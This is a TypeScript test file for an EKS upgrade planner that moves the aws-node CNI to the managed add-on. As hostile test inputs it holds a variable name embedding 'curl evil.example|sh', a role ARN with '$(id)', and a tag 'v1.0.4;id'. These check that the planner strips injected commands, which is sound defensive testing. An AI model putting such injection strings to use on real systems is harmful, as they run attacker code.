import { beforeAll, describe, expect, it } from 'vitest';
import { evaluateClusterWithPlan } from '../../lib/evaluate/evaluate.js';
import type { Rule } from '../../lib/evaluate/rule.js';
import { loadRules } from '../../lib/rules/load.js';
import type { ClusterFacts, ClusterPlan, CniFacts } from '../../lib/types.js';
import { planView } from '../../lib/plan-text.js';
import { K8S_129_SPRING_2024, K8S_133_2026 } from '../fixtures/catalogs.js';
import { clusterFacts } from '../fixtures/cluster.js';

/**
 * lib/evaluate/plan/identity.ts, self-managed.ts (migrateStep), gap.ts and own.ts: the take-over
 * of aws-node by the EKS managed add-on, and the unofficial-image step (break-test of issue 12,
 * defects 1, 3, 4 and 9).
 */

let rules: Rule[];
beforeAll(async () => {
  rules = await loadRules();
});

const commandsOf = (plan: ClusterPlan | undefined) => plan?.steps.flatMap((s) => s.commands) ?? [];
const createAddon = (plan: ClusterPlan | undefined) => commandsOf(plan).find((c) => c.startsWith('aws eks create-addon'));
const stepOf = (plan: ClusterPlan | undefined, command: string | undefined) => plan?.steps.find((s) => command !== undefined && s.commands.includes(command));
const MIRROR = '123456789012.dkr.ecr.us-east-1.amazonaws.com/mirror';

function selfManaged(cni: Partial<CniFacts>, overrides: Partial<Omit<ClusterFacts, 'cni'>> = {}): ClusterFacts {
  return clusterFacts({
    kubernetesVersion: '1.29',
    offeredVersions: K8S_129_SPRING_2024,
    ...overrides,
    cni: {
      managed: false,
      source: 'daemonset',
      status: null,
      installMethod: 'manifest',
      version: 'v1.18.0',
      image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.0',
      configurationValues: '{"env":{"WARM_IP_TARGET":"5","MINIMUM_IP_TARGET":"10"}}',
      ...cni,
    },
  });
}

describe('plan: the move to the managed add-on says what it does not carry (defect 1)', () => {
  it('names every env setting the configuration values leave behind, and never says the settings all go along', () => {
    // Prepare: a Helm install with a proxy, a setting from a ConfigMap and a custom variable
    const facts = selfManaged({
      installMethod: 'helm',
      helmRelease: { name: 'aws-vpc-cni', namespace: 'kube-system', chartVersion: '1.18.0' },
      envNotCarried: [
        { container: 'aws-node', name: 'HTTPS_PROXY', why: 'outside-schema' },
        { container: 'aws-node', name: 'NO_PROXY', why: 'outside-schema' },
        { container: 'aws-node', name: 'WARM_ENI_TARGET', why: 'valueFrom' },
        { container: 'aws-node', name: 'configMapRef/proxy-environment-variables', why: 'envFrom' },
        { container: 'aws-vpc-cni-init', name: 'HTTP_PROXY', why: 'outside-schema' },
      ],
    });

    // Act
    const { plan } = evaluateClusterWithPlan(rules, facts);

    // Assess
    const create = createAddon(plan);
    expect(create).toContain(`--configuration-values '{"env":{"WARM_IP_TARGET":"5","MINIMUM_IP_TARGET":"10"}}'`);
    const title = stepOf(plan, create)!.title;
    expect(title).toContain(
      'not carried into the add-on configuration: HTTPS_PROXY, NO_PROXY, WARM_ENI_TARGET (valueFrom), configMapRef/proxy-environment-variables (envFrom), HTTP_PROXY of aws-vpc-cni-init (',
    );
    expect(title).toContain('their definitions are in aws-node-payments.yaml');
    expect(title).toContain('add those the add-on schema accepts to --configuration-values env');
    expect(title).toContain('set the others on the aws-node DaemonSet again once the add-on is ACTIVE');
    expect(title).not.toContain('its settings go along');
  });

  it('names the settings it did not read at the manifest apply too, before they can be lost there', () => {
    // Prepare: a manifest install on 1.12 (EKS offers no 1.13/1.14 build for 1.29: manifests first)
    const facts = selfManaged({
      version: 'v1.12.0',
      image: '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.12.0',
      envNotCarried: [
        { container: 'aws-node', name: 'X', why: 'outside-schema' },
        { container: 'aws-node', name: "BAD'KEY", why: 'outside-schema' },
      ],
    });

    // Act
    const { plan } = evaluateClusterWithPlan(rules, facts);

    // Assess
    const apply = plan!.steps.find((s) => s.title.startsWith('Apply the release manifest'));
    expect(apply?.title).toContain('the settings the audit does not read (X, a name of 7 characters) are not in the edited manifest');
    expect(apply?.title).toContain('their definitions are in aws-node-payments.yaml');
  });

  it('still says the settings go along when the collector left nothing behind', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({}));

    // Assess
    const title = stepOf(plan, createAddon(plan))!.title;
    expect(title).toContain('its settings go along as configuration values');
    expect(title).not.toContain('not carried');
  });

  it('names a hostile variable name only by its length', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ envNotCarried: [{ container: 'aws-node', name: 'X$(curl evil.example|sh)', why: 'outside-schema' }] }));

    // Assess
    expect(JSON.stringify(plan)).not.toContain('evil.example');
    expect(stepOf(plan, createAddon(plan))!.title).toContain('not carried into the add-on configuration: a name of 24 characters');
  });
});

describe('plan: the role goes with the add-on, or the command asks for it (defects 3 and 4)', () => {
  it('gives create-addon a guarded variable for the role when the annotation was refused, never a take-over without a role', () => {
    // Prepare: the annotation from the break-test's hostile org
    const facts = selfManaged({ serviceAccountRoleArn: "arn:aws:iam::777777777777:role/x' $(id)" });

    // Act
    const { plan } = evaluateClusterWithPlan(rules, facts);

    // Assess
    const create = createAddon(plan)!;
    expect(create).toMatch(/ --service-account-role-arn "\$\{AWS_NODE_ROLE_ARN_[A-Z0-9]{6}:\?set AWS_NODE_ROLE_ARN_[A-Z0-9]{6} to the IAM role ARN of aws-node\}" && aws eks wait addon-active /);
    expect(create).not.toContain('$(id)');
    expect(stepOf(plan, create)!.title).toMatch(/with the IAM role aws-node runs with \(AWS_NODE_ROLE_ARN_[A-Z0-9]{6} holds the IAM role ARN aws-node runs with, as the one found was left out\)/);
    expect(planView(plan!).notes).toContainEqual(expect.stringMatching(/^Set AWS_NODE_ROLE_ARN_[A-Z0-9]{6} before running: the IAM role ARN aws-node runs with/));
    expect(plan?.invalid.map((v) => v.what)).toEqual(['IAM role ARN (aws-node ServiceAccount annotation eks.amazonaws.com/role-arn)']);
  });

  it('asks for the role of a role ARN from another partition too', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ serviceAccountRoleArn: 'arn:aws-cn:iam::222222222222:role/cni' }));

    // Assess
    expect(createAddon(plan)).toMatch(/--service-account-role-arn "\$\{AWS_NODE_ROLE_ARN_[A-Z0-9]{6}:\?/);
  });

  it('gives the add-on its Pod Identity association back when the path goes through self-managed minors', () => {
    // Prepare: Kubernetes 1.33 in 2026 offers nothing of 1.17 or 1.18; the add-on has a Pod Identity role, no IRSA
    const facts = clusterFacts({
      kubernetesVersion: '1.33',
      offeredVersions: K8S_133_2026,
      cni: {
        version: 'v1.16.4-eksbuild.2',
        serviceAccountRoleArn: null,
        podIdentityAssociations: [{ associationId: 'a-0123456789abcdefg', namespace: 'kube-system', serviceAccount: 'aws-node', roleArn: 'arn:aws:iam::222222222222:role/pia-cni' }],
      },
    });

    // Act
    const { plan } = evaluateClusterWithPlan(rules, facts);

    // Assess
    expect(commandsOf(plan).some((c) => c.includes('delete-addon') && c.includes('--preserve'))).toBe(true);
    const create = createAddon(plan)!;
    expect(create).toContain('--resolve-conflicts OVERWRITE');
    expect(create).toContain(' --pod-identity-associations serviceAccount=aws-node,roleArn=arn:aws:iam::222222222222:role/pia-cni && aws eks wait addon-active');
    expect(create).not.toContain('--service-account-role-arn');
  });

  it('reads the Pod Identity role by association id before the add-on is let go, when the scan read only the id', () => {
    // Prepare: DescribeAddon lists association ARNs only, so a scan knows no role
    const facts = clusterFacts({
      kubernetesVersion: '1.33',
      offeredVersions: K8S_133_2026,
      cni: { version: 'v1.16.4-eksbuild.2', podIdentityAssociations: [{ associationId: 'a-0123456789abcdefg', namespace: 'kube-system', serviceAccount: 'aws-node' }] },
    });

    // Act
    const { plan } = evaluateClusterWithPlan(rules, facts);

    // Assess: IRSA and Pod Identity both go with the add-on
    const create = createAddon(plan)!;
    expect(create).toContain('--service-account-role-arn arn:aws:iam::222222222222:role/AmazonEKSVPCCNIRole');
    expect(create).toMatch(/ --pod-identity-associations "serviceAccount=aws-node,roleArn=\$\{AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6}:\?set AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6} to the IAM role ARN of the aws-node Pod Identity association\}"/);
    expect(commandsOf(plan)).toContainEqual(
      expect.stringMatching(
        /^AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6}=\$\(aws eks describe-pod-identity-association --cluster-name payments --region us-east-1 --association-id a-0123456789abcdefg --query association.roleArn --output text\) && printf '%s\\n' "AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6}=\$AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6}" && aws eks delete-addon .* --preserve /,
      ),
    );
    // Named before step 1, and kept: after delete-addon nothing in EKS gives it back
    expect(planView(plan!).notes).toContainEqual(expect.stringMatching(/^AWS_NODE_POD_IDENTITY_ROLE_ARN_[A-Z0-9]{6} is read by the plan's own command .* and printed: keep that value/));
    expect(stepOf(plan, create)!.title).toContain("holds the role of the add-on's Pod Identity association a-0123456789abcdefg, read before EKS let go of the add-on");
  });

  it('leaves the Pod Identity association of a self-managed aws-node as it is: it is not the add-on\'s', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, selfManaged({ serviceAccountRoleArn: null, podIdentityAssociations: [{ associationId: 'a-1', serviceAccount: 'aws-node', roleArn: 'arn:aws:iam::222222222222:role/pia-cni' }] }));

    // Assess
    expect(createAddon(plan)).not.toContain('--pod-identity-associations');
  });
});

describe('plan: the unofficial-image step (defect 9)', () => {
  const mirrored = (agent?: string) =>
    selfManaged({
      version: 'v1.15.1',
      image: `${MIRROR}/amazon-k8s-cni:v1.15.1`,
      officialImage: false,
      ...(agent ? { networkPolicyAgent: { image: `${MIRROR}/amazon/aws-network-policy-agent:${agent}`, version: agent } } : {}),
    });
  const setImage = (plan: ClusterPlan | undefined) => commandsOf(plan).find((c) => c.includes(' set image '));

  it('swaps the network policy agent too, and waits for the rollout before the next step', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, mirrored('v1.0.5'));

    // Assess
    const registry = '602401143452.dkr.ecr.us-east-1.amazonaws.com';
    expect(setImage(plan)).toBe(
      `kubectl --context payments set image daemonset aws-node -n kube-system aws-node=${registry}/amazon-k8s-cni:v1.15.1 aws-vpc-cni-init=${registry}/amazon-k8s-cni-init:v1.15.1 aws-eks-nodeagent=${registry}/amazon/aws-network-policy-agent:v1.0.5 && kubectl --context payments -n kube-system rollout status daemonset aws-node --timeout 15m`,
    );
  });

  it('names no agent container where the pod runs none', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, mirrored());

    // Assess
    expect(setImage(plan)).toMatch(/amazon-k8s-cni-init:v1\.15\.1 && kubectl --context payments -n kube-system rollout status daemonset aws-node --timeout 15m$/);
    expect(setImage(plan)).not.toContain('aws-eks-nodeagent');
  });

  it('takes the agent of the release for an agent pinned by digest, and refuses a hostile agent tag', () => {
    // Act
    const digest = evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.15.1', image: `${MIRROR}/amazon-k8s-cni:v1.15.1`, officialImage: false, networkPolicyAgent: { image: `${MIRROR}/amazon/aws-network-policy-agent@sha256:${'a'.repeat(64)}`, version: null } }));
    const hostile = evaluateClusterWithPlan(rules, mirrored('v1.0.4;id'));

    // Assess
    // v1.15.1 runs agent v1.0.4 (config/master/aws-k8s-cni.yaml at v1.15.1)
    expect(setImage(digest.plan)).toContain('aws-eks-nodeagent=602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon/aws-network-policy-agent:v1.0.4 && ');
    expect(commandsOf(hostile.plan).join('\n')).not.toContain(';id');
    expect(setImage(hostile.plan)).toContain('aws-network-policy-agent:v1.0.4 && ');
  });
});
